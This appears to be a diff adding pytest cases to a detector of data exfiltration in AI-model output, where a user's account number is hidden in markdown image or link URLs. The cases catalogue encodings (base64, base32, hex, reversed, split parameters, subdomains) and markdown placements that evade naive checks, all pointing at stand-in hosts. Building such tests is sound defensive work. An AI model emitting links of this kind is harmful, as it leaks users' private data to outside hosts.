@@ -157,3 +157,54 @@ def test_any_address_is_read(url: str) -> None:
 def test_links_past_the_bound_leave_a_gap() -> None:
     items = judged("![](https://a.example/x) " * (MAX_LINKS + 5))
     assert any("links" in getattr(item, "note", "") for item in items)
+
+
+ACCOUNT = Context(user=("My account number is 8837261945.",))
+SMUGGLED = {
+    "base64 of digits": "?d=ODgzNzI2MTk0NQ==",
+    "base64 twice": "?d=T0Rnek56STJNVGswTlE9PQ==",
+    "base32": "?d=HA4DGNZSGYYTSNBV",
+    "hexadecimal of digits": "?d=38383337323631393435",
+    "grouped": "?d=8837-2619-45",
+    "backwards": "?d=5491627388",
+    "beside letters": "?d=acc8837261945x",
+    "over several names": "?a=8837&b=2619&c=45",
+    "fragment": "#8837261945",
+}
+
+
+@pytest.mark.parametrize("rest", SMUGGLED.values(), ids=SMUGGLED)
+def test_a_number_is_recognised_however_it_is_written(rest: str) -> None:
+    assert "output-image-exfiltration" in rules_of(f"![x](https://a.example/p{rest})", ACCOUNT)
+    assert "output-link-exfiltration" in rules_of(f"[more](https://a.example/p{rest})", ACCOUNT)
+
+
+def test_a_short_label_of_a_host_carries_too() -> None:
+    assert "output-image-exfiltration" in rules_of("![x](https://8837261945.a.example/p.png)", ACCOUNT)
+    spoken = Context(user=("Use https://d8837261945x.cloud.example/one.png",))
+    assert not rules_of("![x](https://d8837261945x.cloud.example/two.png)", spoken)
+
+
+PLACES = {
+    "spaces in brackets": "![x](<https://a.example/p?d=my account 8837261945>)",
+    "brackets in the label": "![a[b]c](https://a.example/p?d=8837261945)",
+    "lines in the label": "![a\nb](https://a.example/p?d=8837261945)",
+    "definition in a quotation": "![x]\n\n> [x]: https://a.example/p?d=8837261945",
+    "definition in a list": "![x]\n\n- item\n\n    [x]: https://a.example/p?d=8837261945",
+    "definition over two lines": "![x]\n\n[x]:\nhttps://a.example/p?d=8837261945",
+    "srcset": '<img srcset="https://a.example/p?d=8837261945 2x">',
+}
+
+
+@pytest.mark.parametrize("text", PLACES.values(), ids=PLACES)
+def test_an_image_is_found_wherever_markdown_lets_it_stand(text: str) -> None:
+    assert "output-image-exfiltration" in rules_of(text, ACCOUNT)
+
+
+def test_an_address_ends_where_its_link_does() -> None:
+    found = links("[![x](https://a.example/p?d=1)](https://ok.example) and [y](https://a.example/w_(f)).")
+    assert [link.url for link in found] == ["https://a.example/p?d=1", "https://ok.example", "https://a.example/w_(f)"]
+
+
+def test_a_number_in_the_path_of_a_link_is_where_the_user_wanted_to_go() -> None:
+    assert not rules_of("[your order](https://shop.example/orders/8837261945)", ACCOUNT)
